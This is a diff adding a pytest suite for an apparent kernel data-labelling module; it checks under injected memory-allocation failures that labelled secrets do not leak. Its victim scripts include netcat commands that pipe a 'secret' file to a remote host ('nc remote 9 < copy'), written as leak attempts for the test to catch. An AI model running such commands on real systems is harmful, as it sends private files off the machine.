@@ -1,0 +1,101 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Memory that is refused while labelled data is read, passed on and sent: nothing leaks, hangs or upsets the kernel. Only on the
+sanitized kernel (conftest.py): no other injects failures."""
+
+import pytest
+
+from guest_run import Case
+from oracle import leaks
+
+INJECT = """
+# What victims allocate fails with this probability: below the module's own code, or "everywhere".
+fail() {
+    local start=0 end=0xffffffffffffffff kind base size
+    if [[ ${2:-} != everywhere ]]; then
+        read -r base size < <(awk '$1 == "tacet" { print $6, $2 }' /proc/modules)
+        start=$base end=$(printf '0x%x' $((base + size)))
+    fi
+    for kind in failslab fail_page_alloc; do
+        (
+            cd /sys/kernel/debug/$kind
+            echo Y > task-filter; echo N > ignore-gfp-wait; echo -1 > times; echo 1 > verbose
+            echo 32 > stacktrace-depth; echo $start > require-start; echo $end > require-end
+            [[ $kind == failslab ]] || { echo N > ignore-gfp-highmem; echo 0 > min-order; }
+            echo $1 > probability
+        )
+    done
+}
+victim() { timeout -s KILL 30 bash -c "echo 1 > /proc/self/make-it-fail; $1" 2>/dev/null; (($? != 137)) || echo "hung: $1"; }
+injected() { echo "injected $(dmesg | grep -c 'FAULT_INJECTION: forcing a failure')"; }
+dmesg -c > /dev/null
+"""
+
+# The first allocation, the second, and so on, until there is none left to fail.
+EACH = INJECT + """
+fail 0
+for n in {1..80}; do
+    timeout -s KILL 30 bash -c "echo $n > /proc/self/fail-nth; exec leak TRIGGER write secret" 2>/dev/null
+    timeout -s KILL 30 bash -c "echo $n > /proc/self/fail-nth; exec leak TRIGGER stdout secret" 2>/dev/null > copy
+    nc remote 9 < copy
+    rm copy
+done
+injected
+"""
+# Two labels come together, and what is made of both is written.
+UNION = INJECT + """
+cp secret plain; agent unlabel plain; agent label-as 2 plain
+fail 0
+for n in {1..60}; do
+    timeout -s KILL 30 bash -c "echo $n > /proc/self/fail-nth; exec cat plain secret" > copy 2>/dev/null
+    lines=$(grep -c salary copy) labels=$(agent show copy)
+    ((lines <= labels)) || echo "copied $lines, labelled $labels"
+    rm copy
+done
+injected
+"""
+RANDOM = INJECT + """
+fail PROBABILITY
+for i in {1..20}; do
+    victim 'exec leak read write secret'
+    victim 'leak thread write secret'
+    victim 'exec leak mmap-shared sendmsg secret'
+    victim 'cat secret | cat | nc remote 9'
+    victim 'cat secret > copy'
+    nc remote 9 < copy
+    victim 'cp secret other; nc remote 9 < other'
+    nc remote 9 < other
+    rm -f copy other
+done
+fail 0
+injected
+"""
+
+
+def each(trigger):
+    """One allocation at a time fails, in the original."""
+    return Case(f"each-{trigger}", EACH.replace("TRIGGER", trigger), timeout=120)
+
+
+def at_random(name, probability):
+    """Any fails, in both halves."""
+    return Case(f"random-{name}", RANDOM.replace("PROBABILITY", probability), timeout=180)
+
+
+@pytest.mark.parametrize("case", [*map(each, ("read", "mmap-private", "fork", "thread", "splice")), at_random("module", "10"),
+                                  at_random("seldom", "2"), at_random("everywhere", "2 everywhere")], ids=str)
+def test_nothing_leaks(case, outcome):
+    assert not leaks(outcome.received), f"LEAK\n{outcome.describe()}"
+    assert "hung: " not in outcome.output and outcome.status == 0, outcome.describe()
+    assert "injected " in outcome.output and "injected 0\n" not in outcome.output, outcome.describe()
+
+
+@pytest.mark.parametrize("case", [Case("union", UNION, timeout=120)], ids=str)
+def test_label_is_never_too_small(case, outcome):
+    assert "copied" not in outcome.output and outcome.status == 0, outcome.describe()
+    assert "injected " in outcome.output and "injected 0\n" not in outcome.output, outcome.describe()
+
+
+@pytest.mark.parametrize("case", [each("read")], ids=str)
+def test_failures_cost_the_doppelganger(case, outcome):
+    """Some of them, and not the later ones: by then all that is needed has been allocated."""
+    assert 0 < len(outcome.tainted) < 160, outcome.describe()
